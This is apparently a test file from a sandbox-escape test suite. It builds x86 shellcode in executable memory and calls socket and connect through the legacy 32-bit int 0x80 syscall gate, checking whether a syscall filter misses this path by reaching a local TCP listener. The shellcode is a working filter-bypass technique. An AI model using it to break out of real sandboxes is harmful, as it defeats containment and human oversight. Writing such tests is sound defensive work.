"""The kernel's 32-bit door, int 0x80, whose numbers mean other calls."""

from __future__ import annotations

from tests.escape.arms import inet
from tests.escape.needs import x86_64
from tests.escape.witnesses.listeners import TcpListener

WITNESS = TcpListener
NEEDS = x86_64


def attack(port: int) -> object:
    import ctypes
    import mmap
    import struct

    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)  # MAP_32BIT: a pointer must fit
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    code = (
        b"\x53\xb8\x67\x01\0\0\xbb\x02\0\0\0\xb9\x01\0\0\0\x31\xd2\xcd\x80"  # socket(2, 1, 0)
        b"\x89\xc3\xb8\x6a\x01\0\0\xb9"
        + struct.pack("=I", start + 128)  # connect(fd, address, 16)
        + b"\xba\x10\0\0\0\xcd\x80\x5b\x48\x98\xc3"
    )
    page.write(code.ljust(128, b"\x90") + inet(port))
    return int(ctypes.CFUNCTYPE(ctypes.c_long)(start)())
